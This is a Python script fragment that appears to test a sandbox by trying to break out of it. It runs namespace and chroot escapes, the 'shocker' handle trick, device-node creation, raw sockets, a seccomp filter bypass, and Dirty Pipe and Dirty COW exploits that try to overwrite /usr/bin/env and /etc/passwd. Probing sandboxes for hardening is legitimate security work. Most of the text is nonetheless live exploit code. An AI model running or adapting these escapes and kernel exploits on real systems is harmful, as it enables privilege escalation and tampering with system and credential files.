# Attempts that take more than one call.
import mmap, socket, stat, subprocess


def run(*command, **more):
    p = subprocess.run(command, capture_output=True, text=True, timeout=8, **more)
    return "done" if p.returncode == 0 else "failed: " + (p.stderr or p.stdout).strip().split("\n")[0]


def into(kind):
    fd = os.open(f"/proc/self/ns/{kind}", os.O_RDONLY)
    call(nr["setns"], fd, 0)


for kind in "user", "mnt", "net", "pid":
    attempt(f"setns {kind}", lambda: into(kind))
attempt("unshare -U", lambda: run("unshare", "-U", "true"))
attempt("unshare -Urm", lambda: run("unshare", "-Urm", "mount", "-t", "tmpfs", "none", "/tmp"))
attempt("unshare -n", lambda: run("unshare", "-n", "true"))
attempt("chroot dance", lambda: (os.makedirs("jail", exist_ok=True), os.chroot("jail"), [os.chdir("..") for _ in range(50)], os.chroot("."), None)[-1])
attempt("shocker", lambda: call(nr["open_by_handle_at"], os.open("/", os.O_RDONLY), "\x08", 0))
attempt("mknod kmsg", lambda: os.mknod("kmsg", stat.S_IFCHR | 0o600, os.makedev(1, 11)))
attempt("mknod mem", lambda: os.mknod("/tmp/mem", stat.S_IFCHR | 0o600, os.makedev(1, 1)))
attempt("mknod disk", lambda: os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(254, 0)))
attempt("mknod whiteout", lambda: os.mknod("whiteout", stat.S_IFCHR, os.makedev(0, 0)))


def sockets():
    families = {"packet": (17, 3), "netfilter": (16, 12), "audit": (16, 9), "uevent": (16, 15), "generic": (16, 16), "crypto": (16, 21)}
    for what, (family, protocol) in families.items():
        attempt(f"socket {what}", lambda: socket.socket(family, socket.SOCK_RAW, protocol).close())
    attempt("socket raw icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close())
    attempt("socket raw icmp6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58).close())
    attempt("socket raw ip", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).close())
    attempt("socket ping6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58).close())
    attempt("socket sctp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).close())
    attempt("socket udplite", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).close())
    attempt("socket mptcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).close())
    attempt("socketpair inet", lambda: socket.socketpair(socket.AF_INET) and None)


sockets()


def dirty_pipe():
    """CVE-2022-0847: writes into the page cache of a file that may only be read"""
    target = "/usr/bin/env"
    before = open(target, "rb").read(64)
    r, w = os.pipe()
    size = 65536
    for _ in range(size // 4096):
        os.write(w, bytes(4096))
    for _ in range(size // 4096):
        os.read(r, 4096)
    fd = os.open(target, os.O_RDONLY)
    os.splice(fd, w, 1, offset_src=3)
    os.write(w, b"pwned")
    return "unchanged" if open(target, "rb").read(64) == before else "CHANGED"


attempt("dirty pipe", dirty_pipe)


def dirty_cow():
    """CVE-2016-5195: races madvise against a write through /proc/self/mem"""
    import threading
    target = "/etc/passwd"
    before = open(target, "rb").read()
    fd = os.open(target, os.O_RDONLY)
    m = mmap.mmap(fd, len(before), mmap.MAP_PRIVATE, mmap.PROT_READ)
    mem = os.open("/proc/self/mem", os.O_RDWR)
    address = ctypes.c_void_p()
    libc.mmap.restype = ctypes.c_void_p
    p = libc.mmap(None, 4096, 1, 2, fd, 0)
    stop = []
    def forget():
        while not stop:
            libc.madvise(ctypes.c_void_p(p), 4096, 4)
    t = threading.Thread(target=forget)
    t.start()
    for _ in range(3000):
        try:
            os.pwrite(mem, b"pwned", p)
        except OSError:
            pass
    stop.append(1)
    t.join()
    return "unchanged" if open(target, "rb").read() == before else "CHANGED"


attempt("dirty cow", dirty_cow)
attempt("overlay copy-up", lambda: run("mount", "-t", "overlay", "-o", "lowerdir=/usr,upperdir=/tmp,workdir=/var/tmp", "overlay", "/workspace"))
attempt("nft table", lambda: socket.socket(16, socket.SOCK_RAW, 12).send(b"\x14\0\0\0\x10\0\x01\0" + bytes(12)))
attempt("cve-2022-0185", lambda: call(nr["fsopen"], "ext4", 0))
attempt("ebpf by socket", lambda: socket.socket().setsockopt(1, 50, (99).to_bytes(4, "little")))


def filter_by_itself():
    """puts a filter before ours that lets everything through"""
    class Prog(ctypes.Structure):
        _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_void_p)]
    allow = ctypes.create_string_buffer(bytes([6, 0, 0, 0]) + (0x7FFF0000).to_bytes(4, "little"))
    prog = Prog(1, ctypes.addressof(allow))
    libc.prctl(38, 1, 0, 0, 0)
    if libc.prctl(22, 2, ctypes.byref(prog)) == -1:
        raise OSError(ctypes.get_errno(), "")


attempt("own filter", filter_by_itself)
attempt("hugepages", lambda: libc.mmap(None, 2 << 20, 3, 0x40022, -1, 0) in (-1, 0xFFFFFFFFFFFFFFFF) and "ENOMEM" or "mapped")
